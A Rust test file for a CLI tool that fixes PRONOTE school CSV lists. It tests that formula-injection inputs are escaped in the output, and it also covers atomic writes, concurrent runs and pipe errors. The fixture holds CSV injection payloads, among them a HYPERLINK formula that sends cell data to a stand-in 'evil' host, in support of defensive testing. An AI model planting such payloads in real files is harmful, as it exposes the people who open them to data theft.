//! What a run writes: the work list cannot run formulas, all outputs land or none does, and
//! standard output failures are reported (a closed pipe ends quietly).
#![allow(clippy::unwrap_used, clippy::expect_used)] // Test helpers panic on purpose.

mod common;

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

fn path_arg(path: &Path) -> String {
    path.display().to_string()
}

/// A Professeurs list whose names and CAS are formulas, all with an ENT export that knows none
/// of those CAS (so `fix --all` clears them and the work list quotes them).
fn formula_list(dir: &Path) -> PathBuf {
    let list = dir.join("professeurs.csv");
    std::fs::write(
        &list,
        "Nom;Prénom;Identifiant CAS\r\n\
         =HYPERLINK(\"http://evil/\"&A1,\"x\");Léa;+SUM(1+1)\r\n\
         @SUM(A1);-2+3;-2+3\r\n\
         DUPONT;Paul;@cmd\r\n",
    )
    .unwrap();
    list
}

#[test]
fn the_work_list_never_starts_a_cell_with_a_formula_character() {
    let dir = tempfile::tempdir().unwrap();
    let list = formula_list(dir.path());
    let out = dir.path().join("sortie");
    let output = common::run(&[
        "fix",
        "--all",
        "--out-dir",
        &path_arg(&out),
        "--ent",
        &path_arg(&common::exemple("ent-export-classique.csv")),
        &path_arg(&list),
    ]);
    assert_eq!(output.status.code(), Some(0), "{}", common::stderr(&output));
    let bytes = std::fs::read(out.join("a-faire-dans-pronote.csv")).unwrap();
    let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
    let mut cells = 0;
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_reader(text.as_bytes());
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            cells += 1;
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "cell {cell:?} would run as a formula"
            );
        }
    }
    assert!(cells > 0);
    assert!(text.contains("'=HYPERLINK("), "{text}");
    assert!(text.contains("'+SUM(1+1)"), "{text}");
    assert!(text.contains("'@SUM(A1)"), "{text}");
    assert!(text.contains("'-2+3"), "{text}");
    // The corrected list itself is byte-faithful: PRONOTE reads it, not a spreadsheet.
    let fixed = std::fs::read_to_string(out.join("professeurs.csv")).unwrap();
    assert!(fixed.contains("=HYPERLINK(\"http://evil/\"&A1,\"x\");Léa;"));
}

#[test]
fn when_an_output_cannot_be_written_no_output_of_the_run_is() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("sortie");
    std::fs::create_dir(&out).unwrap();
    // A folder where the work list goes: the lists come first, the work list last.
    std::fs::create_dir(out.join("a-faire-dans-pronote.csv")).unwrap();
    let output = common::run_paths(
        &["fix", "--all", "--force", "--out-dir", &path_arg(&out)],
        &common::exemple_lists(),
    );
    assert_eq!(output.status.code(), Some(2));
    let err = common::stderr(&output);
    assert!(err.contains("a-faire-dans-pronote.csv"), "{err}");
    let names: Vec<String> = std::fs::read_dir(&out)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(
        names,
        vec!["a-faire-dans-pronote.csv".to_owned()],
        "no list written"
    );
}

#[test]
fn a_list_named_like_the_work_list_is_refused_rather_than_replaced_by_it() {
    let dir = tempfile::tempdir().unwrap();
    let list = dir.path().join("a-faire-dans-pronote.csv");
    std::fs::copy(common::exemple("responsables.csv"), &list).unwrap();
    let out = dir.path().join("sortie");
    let output = common::run(&[
        "fix",
        "--all",
        "--out-dir",
        &path_arg(&out),
        &path_arg(&list),
    ]);
    assert_eq!(output.status.code(), Some(2));
    let err = common::stderr(&output);
    assert!(
        err.contains("porte le nom de la liste des actions"),
        "{err}"
    );
    assert!(err.contains(&path_arg(&list)), "{err}");
    assert!(!out.exists());
}

#[test]
fn two_runs_into_one_folder_do_not_silently_replace_each_other() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("sortie");
    let out_arg = path_arg(&out);
    let lists = common::exemple_lists();
    let runs: Vec<_> = (0..4)
        .map(|_| {
            let lists = lists.clone();
            let out_arg = out_arg.clone();
            std::thread::spawn(move || {
                common::run_paths(&["fix", "--all", "--out-dir", &out_arg], &lists)
            })
        })
        .collect();
    let outputs: Vec<_> = runs.into_iter().map(|r| r.join().unwrap()).collect();
    let succeeded = outputs
        .iter()
        .filter(|o| o.status.code() == Some(0))
        .count();
    assert_eq!(succeeded, 1, "exactly one run writes the folder");
    for o in outputs.iter().filter(|o| o.status.code() != Some(0)) {
        assert_eq!(o.status.code(), Some(2));
        assert!(
            common::stderr(o).contains("existe déjà"),
            "{}",
            common::stderr(o)
        );
    }
}

/// Runs the binary with its standard output going to `stdout`.
fn run_to(args: &[String], stdout: Stdio) -> std::process::Child {
    let config = tempfile::tempdir().unwrap().keep();
    Command::new(env!("CARGO_BIN_EXE_pronote-companion"))
        .args(args)
        .env("PRONOTE_COMPANION_CONFIG_DIR", config)
        .stdout(stdout)
        .stderr(Stdio::piped())
        .spawn()
        .unwrap()
}

fn with_lists(args: &[&str]) -> Vec<String> {
    let mut all: Vec<String> = args.iter().map(|s| s.to_string()).collect();
    all.extend(common::exemple_lists().iter().map(|p| path_arg(p)));
    all
}

#[test]
fn a_closed_pipe_ends_quietly() {
    let dir = tempfile::tempdir().unwrap();
    let out = path_arg(&dir.path().join("sortie"));
    for args in [
        with_lists(&["check", "--details"]),
        with_lists(&["fix", "--all", "--out-dir", &out]),
        with_lists(&["identifier", "--nom", "BOVIN", "--prenom", "Lucas"]),
    ] {
        let mut child = run_to(&args, Stdio::piped());
        // Close our end at once: every write of the child fails with a broken pipe.
        drop(child.stdout.take());
        let output = child.wait_with_output().unwrap();
        let err = common::stderr(&output);
        assert!(!err.contains("panicked"), "{args:?}: {err}");
        assert!(
            output.status.code().is_some_and(|c| c < 2),
            "{args:?}: {err}"
        );
    }
}

#[cfg(target_os = "linux")]
#[test]
fn a_full_standard_output_is_an_error_with_a_french_message() {
    let dir = tempfile::tempdir().unwrap();
    let out = path_arg(&dir.path().join("sortie"));
    for args in [
        with_lists(&["check"]),
        with_lists(&["check", "--format", "json"]),
        with_lists(&["fix", "--all", "--out-dir", &out]),
        with_lists(&["identifier", "--nom", "BOVIN", "--prenom", "Lucas"]),
    ] {
        let full = std::fs::OpenOptions::new()
            .write(true)
            .open("/dev/full")
            .unwrap();
        let output = run_to(&args, Stdio::from(full)).wait_with_output().unwrap();
        let err = common::stderr(&output);
        assert_eq!(output.status.code(), Some(2), "{args:?}: {err}");
        assert!(err.contains("sortie standard"), "{err}");
        assert!(err.contains("disque plein"), "{err}");
    }
}
